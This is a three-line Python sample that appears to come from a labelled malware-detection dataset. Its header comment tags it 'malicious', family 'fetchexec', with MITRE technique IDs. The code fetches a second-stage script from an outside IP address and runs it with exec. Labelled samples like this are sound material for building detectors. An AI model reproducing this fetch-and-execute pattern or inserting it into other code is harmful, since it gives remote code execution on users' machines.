# label: malicious family=fetchexec techniques=T1059.006,T1105,T1620 lines=3-4
from urllib.request import urlopen
code = urlopen("http://192.0.2.131:8080/stage2.py").read()
exec(compile(code, "<stage2>", "exec"))
